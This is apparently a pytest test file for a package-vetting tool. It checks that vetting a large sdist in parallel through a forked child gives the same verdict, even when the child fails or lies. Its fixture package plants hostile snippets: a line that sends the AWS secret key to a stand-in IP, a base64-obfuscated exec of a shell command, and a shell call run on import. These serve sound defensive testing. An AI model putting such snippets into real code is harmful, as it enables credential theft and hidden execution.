"""A command-line vetting run shares a large package's members with a forked child (issue 16).

The child may change when a verdict comes, never what it is: these tests compare reports
made with and without it, and break the child in each way it could fail. The forking runs
happen in a fresh interpreter (one thread, as the CLI is), not in pytest's process.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest

from airlock.imports.packages import spread
from airlock.imports.packages.rules import PackageFinding, Severity
from airlock.imports.packages.spread import MIN_SPREAD_BYTES, Job, _queue, run_jobs
from scripts.make_test_packages import sdist

ROOT = Path(__file__).resolve().parents[4]

# Filler that names sinks, so every module gets the whole flow pass, and keeps clean.
FILLER = "".join(
    f"def helper_{i}(path):\n    with open(path) as f:\n        return f.read() + {i!r}\n\n\n"
    for i in range(60)
)
SEND = "import os, urllib.request\n\n\ndef go():\n    key = os.environ['AWS_SECRET_ACCESS_KEY']\n"
SEND += "    urllib.request.urlopen('http://203.0.113.7/c?k=' + key)\n\n\ngo()\n"
HIDDEN = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n"


def _package() -> bytes:
    """An sdist of ~40 modules (well over the split threshold) with findings in modules the
    child takes and in modules this process keeps, a cross-file chain and two copies."""
    files = {f"pkg/m{i:02}.py": FILLER for i in range(36)}
    files["pkg/send.py"] = FILLER + SEND
    files["pkg/hidden.py"] = HIDDEN + FILLER
    files["pkg/copy_a.py"] = HIDDEN
    files["pkg/copy_b.py"] = HIDDEN
    files["pkg/util.py"] = "import subprocess\n\n\ndef run():\n    subprocess.run('id', shell=1)\n"
    files["pkg/__init__.py"] = "from .util import run\nrun()\n"
    files["setup.py"] = "from setuptools import setup\nsetup(name='pkg', version='1.0')\n"
    return sdist("pkg", "1.0", files)


def _fresh(code: str, tmp_path: Path, blob: bytes | None = None) -> Any:
    """Run ``code`` in a new interpreter (``BLOB`` names the package file); its last line
    of output, as JSON."""
    package = tmp_path / "pkg-1.0.tar.gz"
    if blob is not None:
        package.write_bytes(blob)
    # Whether the machine running the tests is busy is not what they test.
    prelude = f"import json, os, sys\nBLOB = {str(package)!r}\n"
    prelude += "from airlock.imports.packages import spread as _spread\n"
    prelude += "_spread.idle_core = lambda: True\n"
    done = subprocess.run(
        [sys.executable, "-c", prelude + textwrap.dedent(code)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout.strip().splitlines()[-1])


COMPARE = """
from airlock.imports.packages import spread
from airlock.imports.packages.memo import MEMO
from airlock.imports.packages.vet import vet

forks = []
fork = os.fork
def counted():
    pid = fork()
    if pid:
        forks.append(pid)
    return pid
os.fork = counted
data = open(BLOB, 'rb').read()
plain = vet('pkg-1.0.tar.gz', data).to_json()
MEMO._entries.clear()
shared = vet('pkg-1.0.tar.gz', data, spread=True).to_json()
serious = {f['path'] for f in shared['findings'] if f['severity'] in ('high', 'critical')}
print(json.dumps({'same': plain == shared, 'forks': len(forks), 'verdict': shared['verdict'],
                  'paths': sorted(serious)}))
"""


def test_a_spread_vetting_gives_the_same_report(tmp_path: Path) -> None:
    got = _fresh(COMPARE, tmp_path, _package())
    assert got == {
        "same": True,
        "forks": 1,
        "verdict": "deny",
        "paths": got["paths"],
    }
    # Serious findings from both processes' shares and from the cross-file pass.
    assert {"pkg-1.0/pkg/send.py", "pkg-1.0/pkg/hidden.py", "pkg-1.0/pkg/util.py"} <= set(
        got["paths"]
    )


@pytest.mark.parametrize(
    "breakage",
    [
        "os._exit(9)",  # dies without a word
        'os.write(writer, b\'{"answers": {}, "runs": []}\'); os._exit(0)',  # answers nothing
        "os.write(writer, b'not json'); os._exit(0)",
        # a finding whose severity is no severity, for every job it took
        (
            "taken = []\n        while (i := spread._claim(claims)) is not None: taken.append(i)"
            "\n        bad = {str(i): [['r', 'p', 1, 99, 'x']] for i in taken}"
            "\n        os.write(writer, json.dumps({'answers': bad, 'runs': []}).encode())"
            "\n        os._exit(0)"
        ),
        "import time; time.sleep(0.2); os._exit(0)",  # a clean exit, nothing sent
    ],
)
def test_a_failing_child_changes_nothing_but_time(tmp_path: Path, breakage: str) -> None:
    code = f"""
    from airlock.imports.packages import spread
    from airlock.imports.packages.memo import MEMO
    from airlock.imports.packages.vet import vet

    def broken(jobs, claims, writer):
        {breakage}
    spread._child = broken
    data = open(BLOB, 'rb').read()
    plain = vet('pkg-1.0.tar.gz', data).to_json()
    MEMO._entries.clear()
    print(json.dumps(plain == vet('pkg-1.0.tar.gz', data, spread=True).to_json()))
    """
    assert _fresh(code, tmp_path, _package()) is True


def test_answers_for_files_the_child_was_not_given_are_refused(tmp_path: Path) -> None:
    code = """
    from airlock.imports.packages import spread
    from airlock.imports.packages.rules import PackageFinding

    def job(i):
        return spread.Job(64 * 1024, lambda: [PackageFinding('own', str(i), os.getpid(), 1, '')])

    def liar(jobs, claims, writer):
        answers = {str(i): [['planted', 'x', 0, 1, 'x']] for i in range(len(jobs))}
        os.write(writer, json.dumps({'answers': answers, 'runs': []}).encode())
        os._exit(0)
    spread._child = liar
    found = spread.run_jobs([job(i) for i in range(4)], spread=True)
    print(json.dumps([[f.rule, f.line == os.getpid()] for fs in found for f in fs]))
    """
    assert _fresh(code, tmp_path) == [["own", True]] * 4


def test_the_child_computes_its_share_in_its_own_process(tmp_path: Path) -> None:
    code = """
    import time
    from airlock.imports.packages import spread
    from airlock.imports.packages.rules import PackageFinding

    def job(i, size):
        def compute():
            time.sleep(0.02)  # long enough that neither process takes every job alone
            return [PackageFinding('pid', str(i), os.getpid(), 1, '')]
        return spread.Job(size, compute)

    found = spread.run_jobs([job(i, (i + 1) * 16 * 1024) for i in range(8)], spread=True)
    print(json.dumps([[int(fs[0].path), fs[0].line == os.getpid()] for fs in found]))
    """
    got = _fresh(code, tmp_path)
    assert [i for i, _ in got] == list(range(8))
    here = [i for i, mine in got if mine]
    assert 0 < len(here) < 8  # both processes computed some


def test_a_fork_that_fails_leaves_the_work_here(tmp_path: Path) -> None:
    code = """
    from airlock.imports.packages import spread
    from airlock.imports.packages.rules import PackageFinding

    def refuse():
        raise BlockingIOError(11, 'Resource temporarily unavailable')
    os.fork = refuse
    before = len(os.listdir('/proc/self/fd'))
    jobs = [spread.Job(64 * 1024, lambda: [PackageFinding('x', '', os.getpid(), 1, '')])] * 4
    found = spread.run_jobs(jobs, spread=True)
    left_open = len(os.listdir('/proc/self/fd')) - before
    print(json.dumps([[f[0].line == os.getpid() for f in found], left_open]))
    """
    assert _fresh(code, tmp_path) == [[True] * 4, 0]  # all computed here, no pipe left open


def test_no_fork_while_another_thread_runs(tmp_path: Path) -> None:
    code = """
    import threading
    from airlock.imports.packages import spread
    from airlock.imports.packages.rules import PackageFinding

    def refuse():
        raise AssertionError('forked with a second thread running')
    os.fork = refuse
    stop = threading.Event()
    threading.Thread(target=stop.wait).start()
    jobs = [spread.Job(64 * 1024, lambda: [PackageFinding('x', '', 0, 1, '')]) for _ in range(4)]
    found = spread.run_jobs(jobs, spread=True)
    stop.set()
    print(json.dumps([spread.can_spread(), sum(len(f) for f in found)]))
    """
    assert _fresh(code, tmp_path) == [False, 4]


def _job(size: int, *, movable: bool = True, costly: bool = False) -> Job:
    return Job(size, list, movable=movable, costly_to_move=costly)


def test_the_queue_offers_cheap_members_first_then_largest_first() -> None:
    jobs = [
        _job(60_000, costly=True),
        _job(20_000),
        _job(40_000),
        _job(30_000, movable=False),
        _job(70_000, costly=True),
    ]
    # Members whose tree is kept go last (moving them costs a parse here); never the
    # unmovable one; the smallest of each kind last, so the two finish close together.
    assert _queue(jobs) == [2, 1, 4, 0]


def test_a_small_package_is_not_split() -> None:
    assert _queue([_job(MIN_SPREAD_BYTES // 4) for _ in range(3)]) == []
    assert _queue([_job(MIN_SPREAD_BYTES, movable=False) for _ in range(3)]) == []


def test_without_spread_everything_runs_here() -> None:
    found = run_jobs(
        [Job(MIN_SPREAD_BYTES, lambda: [PackageFinding("x", "", os.getpid(), Severity.LOW, "")])]
        * 4,
        spread=False,
    )
    assert [f[0].line for f in found] == [os.getpid()] * 4


@pytest.mark.parametrize(
    ("cores", "running", "idle"),
    [(2, 1, True), (2, 2, False), (2, 5, False), (1, 1, False), (8, 7, True), (2, None, False)],
)
def test_a_busy_machine_vets_in_one_process(
    monkeypatch: pytest.MonkeyPatch, cores: int, running: int | None, idle: bool
) -> None:
    monkeypatch.setattr(spread, "_cores", lambda: cores)
    monkeypatch.setattr(spread, "_running", lambda: running)
    assert spread.idle_core() is idle


def test_the_running_count_includes_this_process() -> None:
    running = spread._running()
    assert running is None or running >= 1
